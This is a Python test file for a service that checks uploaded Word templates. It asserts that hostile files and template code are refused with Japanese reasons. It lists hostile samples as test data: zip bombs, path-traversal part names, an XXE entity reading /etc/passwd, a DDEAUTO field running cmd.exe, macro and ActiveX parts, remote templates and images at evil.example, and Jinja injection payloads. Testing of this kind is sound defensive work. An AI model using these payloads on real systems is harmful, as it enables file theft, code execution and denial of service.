"""Forms that mean harm, or are only wrong: refused with the reason and the place, and never run."""

from __future__ import annotations

from io import BytesIO
import time
from zipfile import ZIP_DEFLATED, ZipFile

from docx import Document
from hypothesis import given, settings, strategies as st
import pytest

from core.languages import speaking
from papers.own_checks import LARGEST, Unfit
from papers.own_filling import filled, prepared
from tests.exports import reading, samples
from tests.papers.own import TABLE, changed, document, saved, with_body, with_part

DATABASES = ["sqlite"]  # no database at all
HANGS = 60  # seconds of processor time: what is not stopped at once takes hours
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 20


def refused(content: bytes) -> list[str]:
    """Why a form was not taken, in Japanese; fails when it was."""
    with speaking("ja"), pytest.raises(Unfit) as fault:
        prepared(content)
    return list(fault.value.faults)


def field(code: str) -> str:
    return (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{code[:3]}</w:instrText></w:r><w:r><w:instrText>{code[3:]}</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def bomb(parts: int = 1, size: int = 40_000_000) -> bytes:
    file = BytesIO()
    with ZipFile(file, "w", ZIP_DEFLATED) as out:
        for place in range(parts):
            out.writestr(f"word/{place}.xml", b"\0" * size)
    return file.getvalue()


HOSTILE = {
    "nothing": (b"", "ファイルを選んで"),
    "text": (b"hello", "内容がWordファイルではありません"),
    "a PDF called docx": (b"%PDF-1.7", "内容がWordファイルではありません"),
    "an old .doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "古い形式"),
    "a password": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), "パスワード"),
    "cut off": (TABLE[:3000], "壊れて"),
    "too large": (b"PK" + b"\0" * LARGEST, "超えています"),
    "a zip bomb": (bomb(), "あり得ない大きさ"),
    "a thousand parts": (bomb(400, 10), "あり得ない大きさ"),
    "a name that leads out": (changed(TABLE, **{"..__..__etc__passwd": b"x"}), "外を指す"),
    "an absolute name": (changed(TABLE, **{"__etc__passwd": b"x"}), "外を指す"),
    "no Word file": (changed(TABLE, "[Content_Types].xml", lambda text: text.replace("wordprocessingml.document.main", "spreadsheetml.sheet.main")), "埋め込まれています"),
    "a template .dotx": (changed(TABLE, "[Content_Types].xml", lambda text: text.replace("document.main+xml", "template.main+xml")), ".dotx"),
    "a .docm": (changed(TABLE, "[Content_Types].xml", lambda text: text.replace("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                                                                             "application/vnd.ms-word.document.macroEnabled.main+xml")), "マクロ"),
    "a macro": (with_part(TABLE, "word/vbaProject.bin", "application/vnd.ms-office.vbaProject"), "マクロ"),
    "a macro under another name": (with_part(TABLE, "word/media/image9.png", "application/vnd.ms-office.vbaProject"), "マクロ"),
    "ActiveX": (with_part(TABLE, "word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"), "ActiveX"),
    "an OLE object": (with_part(TABLE, "word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject"), "埋め込まれています"),
    "a workbook inside": (with_part(TABLE, "word/embeddings/a.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"), "埋め込まれています"),
    "HTML inside": (with_part(TABLE, "word/afchunk.htm", "text/html", relation="aFChunk"), "別の文書"),
    "a chart": (with_part(TABLE, "word/charts/chart1.xml", "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"), "不要な部品"),
    "an attached template": (with_part(TABLE, "", "", relation="attachedTemplate", target="http://evil.example/t.dotm", mode="External"), "テンプレート"),
    "a remote picture": (with_part(TABLE, "", "", relation="image", target="http://evil.example/p.png", mode="External"), "evil.example"),
    "a share of the network": (with_part(TABLE, "", "", relation="image", target="\\\\evil\\p.png"), "外部"),
    "a link": (with_part(TABLE, "", "", relation="hyperlink", target="https://evil.example/", mode="External"), "リンク"),
    "entities": (changed(TABLE, "word/document.xml", lambda text: text.replace("<w:document", '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document', 1)), "実体宣言"),
    "no picture": (with_part(TABLE, "word/media/image9.png", "image/png", b"MZ...", relation="image"), "図"),
    "altChunk": (with_body(TABLE, '<w:altChunk r:id="rId1"/>'), "埋め込まれた"),
    "an object": (with_body(TABLE, "<w:p><w:r><w:object/></w:r></w:p>"), "埋め込まれた"),
    "DDE": (with_body(TABLE, field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')), "DDEAUTO"),
    "INCLUDETEXT": (with_body(TABLE, field('INCLUDETEXT "c:/secret.txt"')), "INCLUDETEXT"),
    "INCLUDEPICTURE": (with_body(TABLE, '<w:p><w:fldSimple w:instr="includepicture http://evil.example/a.png"/></w:p>'), "includepicture"),
    "a field within a field": (with_body(TABLE, field("QUOTE 68 68 69")), "QUOTE"),
    "who writes": (with_body(TABLE, field("USERNAME")), "USERNAME"),
    "a link as a field": (with_body(TABLE, field('HYPERLINK "http://evil.example"')), "HYPERLINK"),
    "a tracked change": (with_body(TABLE, '<w:p><w:ins w:id="1" w:author="x"><w:r><w:t>a</w:t></w:r></w:ins></w:p>'), "変更履歴"),
    "a picture from an address": (with_body(TABLE, '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://evil.example/a.png"/></v:shape></w:pict></w:r></w:p>'), "外部のアドレス"),
    "a part that is not there": (with_body(TABLE, '<w:p><w:hyperlink r:id="rId777"/></w:p>'), "参照している部品"),
    "no field at all": (document("ただの文章"), "項目が一つもありません"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_refused_with_its_reason(name):
    content, reason = HOSTILE[name]
    began = time.process_time()
    assert any(reason.replace("（", "(").replace("）", ")") in each for each in refused(content)), refused(content)
    assert time.process_time() - began < HANGS


INJECTED = [
    "{{ ''.__class__.__mro__ }}", "{{ 件名.__class__ }}", "{{ 件名['__class__'] }}", "{{ self }}", "{{ config }}", "{{ request.application }}", "{{ lipsum.__globals__ }}", "{{ cycler }}",
    "{{ 件名.upper() }}", "{{ range(10**9) }}", "{{ 件名 * 1000000000 }}", "{{ 9**9**9 }}", "{{ 件名 ~ 件名 }}", "{{ 件名 | attr('__class__') }}", "{{ 件名 | map('x') }}", "{{ 件名 | なければ(件名) }}",
    "{% include 'x' %}", "{% import 'x' as y %}", "{% set x = 1 %}", "{% macro x() %}{% endmacro %}", "{% extends 'x' %}", "{% block x %}{% endblock %}", "{% raw %}{{ x }}{% endraw %}", "{% do x %}",
    "{% for x in 役割分担 recursive %}{% endfor %}", "{% for x, y in 役割分担 %}{% endfor %}", "{% for x in range(9) %}{% endfor %}", "{% for x in 件名 %}{% endfor %}", "{{ loop.index }}",
    "{% for x in 役割分担 %}{{ x.__init__ }}{% endfor %}", "{% for x in 役割分担 %}{{ x }}{% endfor %}", "{% for x in 役割分担 %}{{ loop.cycle('a') }}{% endfor %}", "{{ 案件 }}", "{{ 件名", "件名 }}", "{{ }}", "{{ 1 + 1 }}",
    "{% if 件名 is callable %}{% endif %}", "{% if %}{% endif %}", "{% endfor %}", "{% if 件名 %}", "{% if 件名 %}{% endfor %}", "{{ (lambda: 1)() }}", "{{ 件名[0:1] }}", "{{ [件名] }}", "{{ " + "(" * 290 + " }}",
]


@pytest.mark.parametrize("words", INJECTED)
def test_what_is_not_on_the_list_is_refused(words):
    faults = refused(document("{{ 件名 }}", f"ここ{words}"))
    assert all("2番目の段落「ここ" in each for each in faults)


def test_deep_nesting_and_long_tags_are_refused():
    assert refused(document(*["{%p if 件名 %}"] * 50, *["{%p endif %}"] * 50))
    assert "300字" in refused(document("{{ " + "件" * 400 + " }}"))[0]
    began = time.process_time()
    refused(document("{{" * 200_000))
    refused(document("{{ 件名 }}" * 3_000))
    assert time.process_time() - began < HANGS


def test_every_fault_is_told_at_once_with_its_place_and_the_nearest_name():
    form = document("記録　{{ 件明 }}", "{% for 役割 in 役割分但 %}", "{{ 役割.誰 }}", "{% endfor %}", tables=[[["日", "{{ 日次 }}"]]])
    faults = refused(form)

    assert faults == [
        "1番目の段落「記録　{{ 件明 }}」 {{ 件明 }}: 「件明」という項目はありません。「件名」ではありませんか。",
        "2番目の段落「{% for 役割 in 役割分…」 {% for 役割 in 役割分但 %}: 「役割分但」という項目はありません。「役割分担」ではありませんか。",
        "表1の1行目2列目 {{ 日次 }}: 「日次」という項目はありません。「日時」ではありませんか。"]


def test_a_loop_torn_across_table_and_text_is_named():
    form = document("{%p for 役割 in 役割分担 %}", tables=[[["{%tr endfor %}", "x"]]])
    assert any("表1の1行目1列目" in each and "置き場所がそろっていません" in each for each in refused(form))


def test_comments_fonts_and_the_traces_of_writers_are_taken_out():
    made = Document()
    made.add_paragraph("{{ 件名 }}")
    made.add_comment(made.paragraphs[0].runs, "部長に確認", author="文書 文子", initials="文")
    made.core_properties.author = "文書 文子"
    form = with_part(saved(made), "docProps/custom.xml", "application/vnd.openxmlformats-officedocument.custom-properties+xml", "<x>文書 文子</x>".encode())
    with speaking("ja"):
        ready = prepared(form)
    kept = ZipFile(BytesIO(ready.content))

    assert "コメントは取り除きました。" in ready.left_out
    assert not any("文子" in kept.read(name).decode("utf-8", "replace") for name in kept.namelist())
    assert not any("comment" in name for name in kept.namelist()) and "commentReference" not in reading.part(ready.content, "word/document.xml")
    assert reading.faults(filled(ready.content, samples.one_case())) == []


def test_a_picture_of_the_office_stays():
    ready = prepared(with_part(TABLE, "word/media/image9.png", "image/png", PNG, relation="image"))
    assert "word/media/image9.png" in ZipFile(BytesIO(filled(ready.content, samples.one_case()))).namelist()


@settings(max_examples=50, deadline=None)
@given(cut=st.integers(0, len(TABLE) - 1), byte=st.integers(0, 255))
def test_a_damaged_file_is_refused_or_taken_but_never_breaks_the_house(cut, byte):
    try:
        prepared(TABLE[:cut] + bytes([byte]) + TABLE[cut + 1:])
    except Unfit as fault:
        assert fault.faults


@settings(max_examples=50, deadline=None)
@given(st.text("{}%# 件名役割分担.|for in end if else(\"'_1", max_size=40))
def test_whatever_is_typed_is_refused_or_filled(words):
    try:
        ready = prepared(document("{{ 件名 }}", words))
    except Unfit as fault:
        assert fault.faults
    else:
        assert reading.words(filled(ready.content, samples.one_case()))
